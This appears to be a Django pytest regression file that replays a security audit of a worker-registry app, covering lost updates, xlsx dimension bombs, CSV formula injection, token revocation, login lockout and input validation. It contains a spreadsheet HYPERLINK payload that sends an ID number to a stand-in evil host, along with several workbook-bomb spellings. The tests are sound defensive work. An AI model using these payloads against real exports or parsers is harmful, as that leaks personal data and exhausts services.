"""Issue 9 replayed: each finding, in the issue's order, tried as an attacker or a careless user
would, against the real pages, API (Bearer tokens), files and commands.

This is the index of the regressions, one short test per finding: the edge cases live in the
detailed modules it borrows its helpers from — registry/tests/test_concurrency.py and
test_browser_conflict.py (1), test_import_limits.py, workflow/tests/test_job_recovery.py and
test_workbook_views.py (2, 3), lib/tests/test_sheets.py (4), accounts/tests/test_security_auth.py
(5, 6), registry/tests/test_validation_bounds.py and core/tests/test_http_security.py (7).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import threading

import pytest
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

from anju.accounts.models import ApiToken
from anju.accounts.tests.factories import PASSWORD, UserFactory
from anju.accounts.tests.test_security_auth import (  # noqa: F401 (_fast_password_hasher: a fixture)
    NEW_PASSWORD,
    _fast_password_hasher,
    api_login,
    api_status,
    api_token,
    logged_in_client,
    web_login,
)
from anju.api.tests.conftest import ApiClient
from anju.audit.models import Action, AuditEvent
from anju.core.tests.test_http_security import (  # noqa: F401 (limited)
    CHECK,
    limited,
    new_worker,
    screen,
)
from anju.lib.sheets import Limits, SheetTooLarge, check_xlsx
from anju.lib.tests.test_sheets import bomb, sheet_book
from anju.policies.tests.conftest import (  # noqa: F401 (assistance: a fixture)
    assistance,
    months_ago,
)
from anju.registry.models import ImportJob, Worker
from anju.registry.tasks import validate_import
from anju.registry.tests.factories import make_worker, next_id_number
from anju.registry.tests.test_concurrency import (  # noqa: F401
    EDITS,
    assert_kept,
    edit_post,
    officer,
    patch_in_parallel,
)
from anju.registry.tests.test_import_limits import fast_and_small, long_sheet
from anju.registry.tests.test_validation_bounds import BAD_TEXT_ZH, NEUTRAL, form_data
from anju.registry.tests.workbook_data import worker_row, write_csv, write_xlsx
from anju.workflow.tests.test_job_recovery import DB_TASKS, dead_worker, make_job

TOWN = "350581001000"  # personas.town's street; personas.county holds all of Shishi (350581)
LANXIAN = "141127100000"  # another county: personas.town cannot see it
IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


@pytest.fixture
def uploads(settings, tmp_path):
    """Uploads under a fresh MEDIA_ROOT, tasks run at once (as a worker would run them)."""
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.TASKS = IMMEDIATE
    return settings.MEDIA_ROOT


def signed_in(user) -> Client:
    client = Client(raise_request_exception=False)  # a 500 is an answer here, not an exception
    client.force_login(user)
    return client


def upload(client: Client, path) -> object:
    return client.post(reverse("registry:import_start"), {"file": SimpleUploadedFile(path.name, path.read_bytes())})


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


needs_postgresql = pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="parallel writers need PostgreSQL's row locks; SQLite's one write lock would serialise (or block) "
           "them (test_concurrency runs the serialised case on SQLite)")


# 1. Lost updates ------------------------------------------------------------------------------


@needs_postgresql
@pytest.mark.django_db(transaction=True)
def test_1_twenty_parallel_patches_of_different_fields_lose_nothing(officer):  # noqa: F811
    """"20 parallel PATCH ... all answered 200 ... but 17 changes were gone.\""""
    worker = make_worker(residence=TOWN, name="张三", phone="13800001234")
    responses = patch_in_parallel(officer, worker.pk, [{field: sent} for field, sent, _c, _s in EDITS])
    accepted = [field for (field, *_rest), r in zip(EDITS, responses, strict=True) if r.status_code == 200]
    assert accepted, "every edit refused"
    assert_kept(worker, accepted)  # every 200 is in the stored record and in its history


def test_1_the_second_tab_of_the_edit_form_is_told_not_overwritten(personas):
    """"Two officers editing the same worker in two tabs must see the second one told.\""""
    worker = make_worker(residence=TOWN, name="张三")
    first, second = signed_in(personas.town), signed_in(personas.county)
    url = reverse("registry:worker_edit", args=[worker.pk])
    assert first.get(url).status_code == second.get(url).status_code == 200  # both tabs open at version 1
    first_post, second_post = edit_post(worker, 1, skills="电焊"), edit_post(worker, 1, notes="第二位经办员")

    assert first.post(url, first_post).status_code == 302
    response = second.post(url, second_post)
    assert response.status_code == 200 and 'data-testid="edit-conflict"' in response.content.decode()
    worker.refresh_from_db()
    assert (worker.skills, worker.notes, worker.version) == ("电焊", "", 2)


def test_1_an_api_update_from_a_stale_read_is_409(personas):
    """"... or refuse with 409 and say the record changed meanwhile (the API accepts If-Match).\""""
    worker = make_worker(residence=TOWN)
    mine, theirs = ApiClient(personas.town), ApiClient(personas.county)
    read = mine.get(f"workers/{worker.pk}")
    assert theirs.patch(f"workers/{worker.pk}", {"skills": "木工"}).status_code == 200
    mine.headers["If-Match"] = read["ETag"]
    response = mine.patch(f"workers/{worker.pk}", {"notes": "旧页面"})
    assert response.status_code == 409 and "已被他人修改" in response.json()["detail"][0]["message"]
    worker.refresh_from_db()
    assert (worker.skills, worker.notes, worker.version) == ("木工", "", 2)


@needs_postgresql
@pytest.mark.django_db(transaction=True)
def test_1_an_import_never_writes_over_a_person_edited_while_it_runs(officer, uploads, tmp_path, monkeypatch):  # noqa: F811
    """"Every edit path (form, API, import update ...)": another officer saves the person between
    the import's read of the ledger and its write; the import is refused and the edit stands."""
    from anju.registry import imports
    from anju.registry.services import worker_update

    row = worker_row(1, street="350581001", 备注="导入")
    worker = make_worker(residence=TOWN, name=row["姓名"], id_number=row["公民身份号码"])
    client = signed_in(officer)
    upload(client, write_xlsx(tmp_path / "台账.xlsx", [row]))
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.VALIDATED and job.summary["updated"] == 1

    def other_officer() -> None:
        try:
            worker_update(actor=officer, worker=Worker.objects.get(pk=worker.pk), data={"notes": "他人"})
        finally:
            connection.close()  # this thread's own connection: the edit is committed

    real_lock = imports._lock_unchanged_since_read

    def edited_meanwhile(part):
        thread = threading.Thread(target=other_officer)
        thread.start()
        thread.join(timeout=30)
        return real_lock(part)

    monkeypatch.setattr(imports, "_lock_unchanged_since_read", edited_meanwhile)
    client.post(reverse("registry:import_confirm", args=[job.pk]))
    job.refresh_from_db()
    assert job.status == ImportJob.Status.FAILED and "已被他人修改" in job.message
    worker.refresh_from_db()
    assert (worker.notes, worker.version) == ("他人", 2)


def test_1_an_import_confirmed_after_an_edit_does_not_undo_it(personas, uploads, tmp_path):
    """An officer changes a person while the import's preview (which showed no change of that
    field) waits for confirmation; confirming must keep the officer's change, or refuse."""
    from anju.registry.services import worker_update

    row = worker_row(1, street="350581001", 技能特长="木工", 备注="导入")
    worker = make_worker(residence=TOWN, name=row["姓名"], id_number=row["公民身份号码"], skills="木工")
    client = signed_in(personas.town)
    upload(client, write_xlsx(tmp_path / "台账.xlsx", [row]))
    job = ImportJob.objects.get()
    worker_update(actor=personas.county, worker=Worker.objects.get(pk=worker.pk), data={"skills": "电焊"})
    client.post(reverse("registry:import_confirm", args=[job.pk]))
    worker.refresh_from_db()
    assert (worker.skills, worker.notes) == ("电焊", "")
    job.refresh_from_db()  # the row is refused, and the page says why
    assert (job.summary["updated"], job.summary["rejected"]) == (0, 1)
    assert "预览后已被修改" in job.errors[0]["reason_zh"]


# 2. A 1.9 KB workbook kills the task worker ---------------------------------------------------


def test_2_the_bomb_workbook_is_refused_by_the_page_the_task_and_the_command(personas, uploads, tmp_path):
    """"A sheet with cells at A1 and XFD1048576 makes the reader try to allocate 550 GB.\""""
    path = bomb(tmp_path / "bomb.xlsx", "XFD1048576", dimension="A1:B2")  # a dimension that lies
    assert path.stat().st_size < 2048
    client = signed_in(personas.town)
    with fast_and_small():
        page = upload(client, path)
    assert page.status_code == 400 and "XFD1048576" in page.content.decode() and not ImportJob.objects.exists()

    with path.open("rb") as f:  # one already queued (another way in, or limits lowered since)
        job = ImportJob.objects.create(created_by=personas.town, filename=path.name, file=File(f, name=path.name))
    with fast_and_small(), translation.override("zh-hans"):
        validate_import.call(job.pk)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.FAILED and "导入上限为" in job.message and not job.file

    out = io.StringIO()
    with fast_and_small(), pytest.raises(SystemExit) as exited, translation.override("zh-hans"):
        call_command("import-ledger", str(path), "--as", personas.town.username, stdout=out, stderr=io.StringIO())
    assert exited.value.code == 2 and "导入上限为" in json.loads(out.getvalue().splitlines()[-1])["error"]
    assert not Worker.objects.exists()


def test_2_a_dead_worker_s_job_is_failed_at_the_next_worker_start(db, uploads, settings, django_capture_on_commit_callbacks):
    """"The job stays 'validating' forever ... the next worker start finds and fails such jobs.\""""
    settings.TASKS = DB_TASKS  # `anju worker` is django-tasks-db's worker
    job = make_job(worker_id=dead_worker(), claimed_at=timezone.now())
    assert job.status == ImportJob.Status.VALIDATING and job.file
    out = io.StringIO()
    with django_capture_on_commit_callbacks(execute=True):
        call_command("worker", "--recover-only", stdout=out)
    assert json.loads(out.getvalue())["jobs"] == [{"kind": "registry.importjob", "id": job.pk, "cause": "worker_lost"}]
    job.refresh_from_db()
    assert job.status == ImportJob.Status.FAILED and job.message == ImportJob.LOST_MESSAGE
    assert not job.file and not job.error_report and not [p for p in uploads.rglob("*") if p.is_file()]


def workbook(path, sheet_data: str):
    """A one-sheet workbook whose sheetData is `sheet_data` (A1 holds 姓名)."""
    return sheet_book(path, '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>' + sheet_data)


X = '<c t="inlineStr"><is><t>x</t></is></c>'  # a cell without a reference: the next column
WIDE = '<row r="2"><c r="GR2"><v>1</v></c></row>'  # column 200: within the limit

# The bomb spelt in other ways the format allows and calamine reads alike — each makes it
# allocate gigabytes (checked in a subprocess under ulimit -v) — which the byte scan of
# check_xlsx misses. Only check_xlsx is called here: the reader would abort the test process.
BOMB_SPELLINGS = {
    "single_quotes": "<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>",
    "spaces_around_equals": '<row r = "1048576"><c r = "XFD1048576"><v>1</v></c></row>',
    "lowercase_column": '<row r="1048576"><c r="xfd1048576"><v>1</v></c></row>',
    "row_number_only": WIDE + f'<row r="1048576">{X}</row>',
    "rows_without_numbers": WIDE + "<row/>" * 1_048_573 + f"<row>{X}</row>",
    "cells_without_references": f'<row r="200000">{X * 16_384}</row>',
}


@pytest.mark.parametrize("spelling", list(BOMB_SPELLINGS))
def test_2_the_bomb_in_other_spellings_is_refused_before_it_is_read(tmp_path, spelling):
    """The same 550 GB rectangle, spelt as the format allows."""
    path = workbook(tmp_path / "bomb.xlsx", BOMB_SPELLINGS[spelling])
    assert path.stat().st_size < 20_000
    with pytest.raises(SheetTooLarge):
        check_xlsx(path, Limits.from_settings())


# 3. Resource bombs ----------------------------------------------------------------------------


def test_3_a_sheet_of_1_5_million_one_cell_rows_is_refused_in_seconds(personas, uploads, tmp_path):
    """"A 7 MB workbook of 1.5 M one-cell rows took 4 minutes, 6.6 GB.\""""
    path = long_sheet(tmp_path / "百万行.xlsx", 1_500_000)
    client = signed_in(personas.town)
    with fast_and_small():
        response = upload(client, path)
    assert response.status_code == 400 and "导入上限为" in response.content.decode()
    assert not ImportJob.objects.exists() and not [p for p in uploads.rglob("*") if p.is_file()]


def test_3_a_huge_error_list_is_capped_and_the_full_report_stays_a_file(personas, uploads, tmp_path, monkeypatch):
    """"Failed with '系统错误' when the error list was too big to store.\""""
    from anju.workflow import tabular

    monkeypatch.setattr(tabular, "ERRORS_KEPT", 3)  # 1,000 in production: the cap, not its size, is tested
    client = signed_in(personas.town)
    upload(client, write_xlsx(tmp_path / "坏.xlsx", [worker_row(i, street="350581001", 手机号码="1") for i in range(5)]))
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.VALIDATED and len(job.errors) == 3 and job.summary["errors_total"] == 5
    assert job.error_report  # the full list, as a file for the user


def test_3_a_failed_import_leaves_no_orphan_file(personas, uploads, tmp_path, settings):
    """"... leaving a 10 MB orphan file": delete files of failed jobs."""
    settings.ANJU_IMPORT_MAX_ROWS = 5  # a CSV is only counted by the task, so its job fails there
    client = signed_in(personas.town)
    upload(client, write_csv(tmp_path / "长.csv", [worker_row(i, street="350581001") for i in range(30)]))
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.FAILED and not job.file
    assert not [p for p in uploads.rglob("*") if p.is_file()]


# 4. CSV exports hand Excel formulas ---------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B3,"详情")'  # B3: the next row's full ID number


def test_4_a_formula_in_a_note_is_not_a_formula_in_the_ledger_csv(personas):
    """"=HYPERLINK(...) in a note could leak the neighbouring full ID number from a county export.\""""
    created = ApiClient(personas.town).post("workers", new_worker(residence_region=TOWN, notes=HYPERLINK))
    assert created.status_code == 201, created.content
    rows = csv_rows(signed_in(personas.county).get(reverse("registry:worker_export"), {"format": "csv", "full": "1"}))
    assert [row[-1] for row in rows[1:]] == ["'" + HYPERLINK]


def test_4_a_formula_in_a_name_is_not_a_formula_in_the_proactive_list_csv(personas, assistance, settings):  # noqa: F811
    """"... (ledger export and the scan export)": the scan's list carries names."""
    settings.TASKS = IMMEDIATE
    name = "=1+2"  # the ledger takes it as a name; a spreadsheet would compute it
    created = ApiClient(personas.town).post("workers", new_worker(
        name=name, employment_status="unemployed", last_income_month=months_ago(4).strftime("%Y-%m"),
        unemployment_insured=False))
    assert created.status_code == 201, created.content
    client = signed_in(personas.town)
    client.post(reverse("policies:scan_start", args=[assistance.id]), {"on": timezone.localdate().isoformat()})
    from anju.policies.models import ScanJob

    job = ScanJob.objects.get()
    rows = csv_rows(client.get(reverse("policies:scan_export", args=[job.pk]), {"format": "csv"}))
    assert [row[1] for row in rows[1:]] == ["'" + name]


# 5. Tokens outlive passwords ------------------------------------------------------------------


def test_5_a_password_change_ends_every_api_token_and_the_page_says_so(personas):
    """"After a password change ... the user's API tokens still work. End them all, and say so.\""""
    key = api_token("t-town")
    here = logged_in_client(personas.town)
    assert "全部接口（API）令牌将立即失效" in here.get(reverse("accounts:password_change")).content.decode()
    here.post(reverse("accounts:password_change"),
              {"old_password": PASSWORD, "new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD})
    assert api_status(key) == 401


def test_5_deactivation_ends_every_api_token(personas):
    """"... a deactivation ... the user's API tokens still work.\""""
    key = api_token("t-town")
    admin = signed_in(personas.admin)
    admin.post(reverse("admin:accounts_user_changelist"), {"action": "deactivate", "_selected_action": [personas.town.pk]})
    personas.town.refresh_from_db()
    assert not personas.town.is_active and api_status(key) == 401
    personas.town.is_active = True  # reactivated: the old token stays dead
    personas.town.save(update_fields=["is_active"])
    assert api_status(key) == 401


def test_5_logout_everywhere_ends_every_api_token(personas):
    """"... or a logout-all, the user's API tokens still work.\""""
    keys = [api_token("t-county"), api_token("t-county")]
    logged_in_client(personas.county).post(reverse("accounts:logout_everywhere"))
    assert [api_status(k) for k in keys] == [401, 401] and not ApiToken.objects.filter(user=personas.county).exists()


def test_5_a_password_set_by_any_other_path_ends_every_api_token(personas):
    """"After a password change ... the user's API tokens still work": also when the password is
    set outside the page (`anju changepassword`, a script's set_password; found in review)."""
    key = api_token("t-town")
    assert api_status(key) == 200
    personas.town.set_password(NEW_PASSWORD)
    personas.town.save(update_fields=["password"])
    assert api_status(key) == 401


# 6. Anyone can lock anyone out ----------------------------------------------------------------

STRANGER, OWNER = "203.0.113.7", "198.51.100.9"


def test_6_a_stranger_cannot_lock_the_administrator_out(personas):
    """"Five wrong passwords lock an account for 30 minutes ... (admin included) by a stranger.\""""
    assert [web_login("t-admin", "guess", ip=STRANGER).status_code for _ in range(5)][-1] == 429
    assert api_login("t-admin", "guess", ip=STRANGER).status_code == 429
    assert web_login("t-admin", ip=OWNER).status_code == 302
    assert api_login("t-admin", ip=OWNER).status_code == 200


def test_6_failures_spread_over_twelve_accounts_from_one_address_are_stopped(db):
    """"48 failures spread over 12 accounts from one address are not slowed at all.\""""
    users = [UserFactory(username=f"spread{i:02d}") for i in range(12)]
    statuses = [api_login(u.username, "guess", ip=STRANGER).status_code for u in users for _ in range(4)]
    assert 429 in statuses and statuses[-10:] == [429] * 10
    assert api_login(users[0].username, ip=STRANGER).status_code == 429
    assert api_login(users[0].username, ip=OWNER).status_code == 200


def test_6_an_ipv6_client_stepping_through_its_64_is_locked_like_one_address(personas):
    """"Lock by account and address": an IPv6 phone holds 2^64 addresses (fixed in review)."""
    statuses = [api_login("t-town", "guess", ip=f"2001:db8:1:2::{i:x}").status_code for i in range(1, 7)]
    assert statuses[4:] == [429, 429]
    assert api_login("t-town", ip="2001:db8:1:3::1").status_code == 200  # the next /64 is someone else
    # IPv4 clients seen through a dual-stack socket count as themselves, not all as one "::/64".
    assert [api_login("t-county", "guess", ip="::ffff:192.0.2.1").status_code for _ in range(5)][-1] == 429
    assert api_login("t-county", ip="::ffff:192.0.2.2").status_code == 200


def test_6_an_administrator_unlocks_and_lock_and_unlock_are_audited(personas):
    """"Let an administrator unlock; audit both.\""""
    for _ in range(5):
        api_login("t-town", "guess", ip=STRANGER)
    assert api_login("t-town", ip=STRANGER).status_code == 429
    signed_in(personas.admin).post(reverse("accounts:lockout_unlock"),
                                   {"scope": "account", "ip_address": STRANGER, "username": "t-town"})
    assert api_login("t-town", ip=STRANGER).status_code == 200
    events = AuditEvent.objects.filter(object_type="lockout")
    assert {(e.action, e.actor_username) for e in events} == {(Action.LOGIN_FAILED, "t-town"), (Action.UPDATE, "t-admin")}


# 7. Small ones --------------------------------------------------------------------------------


def test_7_a_superscript_region_filter_is_no_500(personas):
    """"/audit/?region=² answers 500 (isdigit() accepts superscripts).\""""
    auditor, county = signed_in(personas.auditor), signed_in(personas.county)
    for bad in ("²", "٣٥٠٥٨١"):
        assert auditor.get(reverse("audit:event_list"), {"region": bad}).status_code == 200
        assert county.get(reverse("core:home"), {"region": bad}).status_code == 200
        assert county.get(reverse("registry:worker_list"), {"region": bad}).status_code == 200
        assert county.get(reverse("registry:worker_export"), {"region": bad}).status_code == 400


def test_7_control_characters_are_refused_by_the_form_and_the_import_as_by_the_api(personas, tmp_path):
    """"Control characters are refused by the API but stored from the web form and the import.\""""
    from anju.registry.imports import import_book
    from anju.registry.workbook import read_workbook

    form = signed_in(personas.town).post(reverse("registry:worker_create"), form_data(name="王\x1b芳"))
    assert form.status_code == 200 and form.context["form"].errors["name"] == [BAD_TEXT_ZH]
    path = write_csv(tmp_path / "w.csv", [worker_row(1, street="350581001", 姓名="王\x07芳")])
    assert [e.reason_zh for e in import_book(read_workbook(path), actor=personas.town).errors] == [BAD_TEXT_ZH]
    api = ApiClient(personas.town, language="zh-hans").post("workers", new_worker(name="王\x85芳"))
    assert api.status_code == 422 and api.json()["detail"][0]["message"] == BAD_TEXT_ZH
    assert not Worker.objects.exists()
    # The API's other text (a reveal's reason) goes through the same check: DEL and C1 too.
    worker = make_worker(residence="350581001000")
    reveal = ApiClient(personas.town, language="zh-hans").post(f"workers/{worker.pk}/reveal", {"reason": "核对\x7f"})
    assert reveal.status_code in (400, 422) and BAD_TEXT_ZH in reveal.content.decode()


def test_7_an_id_number_held_in_another_region_is_refused_neutrally_and_audited(personas):
    """"... tells a town officer that a person is in another region's hardship ledger.\""""
    holder = make_worker(residence=LANXIAN, name="赵岚县", id_number=next_id_number("141127"))
    response = signed_in(personas.town).post(reverse("registry:worker_create"), form_data(id_number=holder.id_number))
    page = response.content.decode()
    assert response.context["form"].errors["id_number"] == [NEUTRAL]
    assert "已在台账中登记" not in page and "管辖范围以外" not in page and holder.name not in page
    api = ApiClient(personas.town, language="zh-hans").post("workers", new_worker(id_number=holder.id_number))
    assert [p["message"] for p in api.json()["detail"]] == [NEUTRAL]
    refusals = AuditEvent.objects.filter(actor=personas.town, detail__reason="id_number_held_elsewhere")
    assert refusals.count() == 2 and Worker.objects.count() == 1


def test_7_dates_like_0001_01_01_and_negative_ages_are_refused(personas):
    """"Dates like 0001-01-01 and negative ages are accepted: bound them.\""""
    api = ApiClient(personas.town, language="zh-hans")
    tomorrow = (timezone.localdate() + dt.timedelta(days=1)).isoformat()
    for field, value in (("unemployment_registered_on", "0001-01-01"), ("unemployment_registered_on", tomorrow),
                         ("birth_date", tomorrow), ("birth_date", "1899-12-31")):
        response = api.post("workers", new_worker(employment_status="unemployed", **{field: value}))
        assert response.status_code == 422 and field in {p["field"] for p in response.json()["detail"]}, (field, value)
    assert not Worker.objects.exists()


def test_7_the_api_reads_only_utf8_application_json_with_unique_keys(personas):
    """"The API accepts text/plain, UTF-16 and duplicate keys as JSON.\""""
    api = ApiClient(personas.town)
    body = json.dumps(new_worker(), ensure_ascii=False)
    duplicate = body[:-1] + ', "name": "李强"}'
    for content_type, raw in (("text/plain", body.encode()), ("application/json", body.encode("utf-16")),
                              ("application/json", duplicate.encode())):
        response = api.client.post("/api/v1/workers", raw, content_type=content_type, headers=api.headers)
        assert response.status_code == 400, (content_type, response.content)
    assert not Worker.objects.exists()


def test_7_the_public_endpoints_are_limited_per_address(db, limited):  # noqa: F811
    """"/api/v1/screening and /check/ take 200+ requests a second from one address.\""""
    assert {screen("203.0.113.7").status_code for _ in range(60)} == {200}
    refused = screen("203.0.113.7")
    assert refused.status_code == 429 and int(refused["Retry-After"]) >= 1
    assert screen("203.0.113.8").status_code == 200  # another address is not held up
    page = Client(REMOTE_ADDR="198.51.100.4")
    assert {page.get(CHECK).status_code for _ in range(60)} == {200}
    assert page.get(CHECK).status_code == 429


def test_7_pages_with_personal_data_have_a_csp_and_are_not_stored(personas, settings):
    """"Add a Content-Security-Policy and Cache-Control: no-store on pages that show personal data.\""""
    worker = make_worker(residence=TOWN)
    page = signed_in(personas.town).get(reverse("registry:worker_detail", args=[worker.pk]))
    assert page["Content-Security-Policy"] == settings.ANJU_CSP and "script-src 'self'" in settings.ANJU_CSP
    assert "no-store" in page["Cache-Control"]
    assert "no-store" in ApiClient(personas.town).get(f"workers/{worker.pk}")["Cache-Control"]


def test_7_password_too_short_is_said_in_chinese(personas):
    """"The 'password too short' message is in English on a Chinese page.\""""
    response = signed_in(personas.town).post(reverse("accounts:password_change"), {
        "old_password": PASSWORD, "new_password1": "Qz7!kp", "new_password2": "Qz7!kp"})
    body = response.content.decode()
    assert "密码太短，至少需要 8 个字符。" in body and "too short" not in body
